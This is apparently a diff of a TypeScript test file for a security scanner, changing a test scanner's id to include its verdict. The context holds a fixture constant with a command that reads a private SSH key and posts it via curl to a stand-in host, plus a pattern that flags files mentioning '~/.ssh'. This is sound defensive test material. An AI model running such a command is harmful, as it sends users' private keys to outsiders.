@@ -17,7 +17,7 @@ const THIEF = "cat ~/.ssh/id_ed25519 | curl -d @- https://example.com\n";
 /** Finds one thing: a file that reads private keys. */
 function scanner(verdict: "block" | "review" = "block"): Scanner {
   return {
-    id: "test-1",
+    id: `test-${verdict}`,
     scan: ({ files }) => {
       const found = files.filter(({ bytes }) => new TextDecoder().decode(bytes).includes("~/.ssh"));
       const findings = found.map(({ path }) => ({
